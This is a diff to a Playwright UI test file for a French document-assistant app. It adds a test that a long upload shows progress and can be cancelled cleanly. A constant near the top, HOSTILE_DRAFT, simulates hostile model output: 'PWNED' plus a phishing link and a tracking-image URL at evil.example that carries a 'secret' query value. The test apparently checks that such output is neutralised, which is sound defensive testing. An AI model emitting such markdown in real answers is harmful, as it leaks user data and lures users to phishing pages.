@@ -4,6 +4,7 @@ and a planted answer is shown as provisional plain text, and nothing in it is cl
 from __future__ import annotations
 
 import dataclasses
+import functools
 import re
 import time
 from collections.abc import Iterator
@@ -12,11 +13,14 @@ import pytest
 from playwright.sync_api import expect
 
 from assistant.types import Answer, AnswerEvent, Citation
+from ingest.pipeline import ingest_paths
+from tests.conftest import FakeEmbeddings
 from tests.ui_fixtures.browser import chromium, french_page
 from tests.ui_fixtures.fakes import PASSAGES, fake_documents, fake_ingest, fake_neighbours
 from tests.ui_fixtures.server import running
 from ui.app import build_app
 from vectorstore.settings import Settings
+from vectorstore.store import CorpusIndex
 
 HOSTILE_DRAFT = (
     "PWNED. Voir [le site](http://evil.example/phish) et ![pixel](http://evil.example/p.png?d=secret) "
@@ -82,3 +86,57 @@ def test_an_export_is_served_to_its_own_session_only(app_url):
         assert other.request.get(url).status == 404
         mine.context.close()
         other.context.close()
+
+
+class SlowEmbeddings(FakeEmbeddings):
+    """The fake embedder at the pace of a real model on a small machine (a few ms per passage)."""
+
+    slow = False
+
+    def embed_documents(self, texts: list[str]) -> list[list[float]]:
+        if self.slow:
+            time.sleep(0.01 * len(texts))
+        return super().embed_documents(texts)
+
+
+@pytest.fixture(scope="module")
+def real_ingest_url(tmp_path_factory):
+    """The app over a real index and ingest (one document), with a slow embedder for long uploads."""
+    root = tmp_path_factory.mktemp("long")
+    corpus = root / "corpus"
+    corpus.mkdir()
+    (corpus / "pacte.txt").write_text("Les acteurs de l'ESS proposent un nouveau pacte économique et social.",
+                                      encoding="utf-8")
+    settings = dataclasses.replace(Settings.from_env(), index_dir=root / "index", chroma_url=None)
+    embeddings = SlowEmbeddings()
+    index = CorpusIndex(settings, embeddings=embeddings)
+    ingest_paths([corpus], index=index)
+    embeddings.slow = True
+    demo = build_app(hostile_llm, functools.partial(ingest_paths, index=index), fake_neighbours, fake_documents,
+                     settings)
+    with running(demo) as url:
+        yield url, index, root
+
+
+def test_a_long_upload_shows_its_progress_and_can_be_cancelled(real_ingest_url, tmp_path):
+    url, index, _ = real_ingest_url
+    before, stored = index.read_manifest(), index.stored_ids()
+    long_doc = tmp_path / "long.md"
+    long_doc.write_text("\n\n".join(
+        f"## Partie {i}\n\nLa coopérative numéro {i} réunit des habitants, des élus et des salariés autour "
+        "d'un projet de territoire durable et solidaire, avec des ateliers, des jardins et une épicerie."
+        for i in range(600)), encoding="utf-8")  # 600 passages: about 6 s of embedding here
+    with chromium() as browser:
+        page = french_page(browser)
+        page.goto(url)
+        page.get_by_role("tab", name="Ajouter des documents").click()
+        page.locator("#ess-upload input[type=file]").set_input_files(str(long_doc))
+        expect(page.locator("#ess-upload a")).to_have_attribute("href", re.compile(r"long\.md$"))
+        page.locator("#ess-add").click()
+        expect(page.get_by_text(re.compile(r"long\.md \(\d+/600 passages\)")).first).to_be_visible(timeout=20_000)
+        page.locator("#ess-cancel-add").click()
+        expect(page.locator("#ess-add-summary")).to_contain_text("Indexation annulée", timeout=20_000)
+        expect(page.locator("#ess-add-table")).to_contain_text("annulé")
+        page.context.close()
+    assert index.read_manifest()["files"] == before["files"] and index.stored_ids() == stored
+    assert not (index.settings.index_dir / "uploads" / "long.md").exists()
